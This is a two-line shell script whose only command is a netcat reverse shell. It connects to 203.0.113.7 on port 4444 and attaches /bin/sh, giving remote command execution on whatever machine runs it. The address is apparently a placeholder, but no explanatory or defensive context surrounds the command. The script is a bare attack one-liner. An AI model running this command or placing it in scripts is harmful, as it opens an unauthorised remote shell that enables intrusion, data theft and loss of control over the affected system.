#!/bin/sh
nc 203.0.113.7 4444 -e /bin/sh
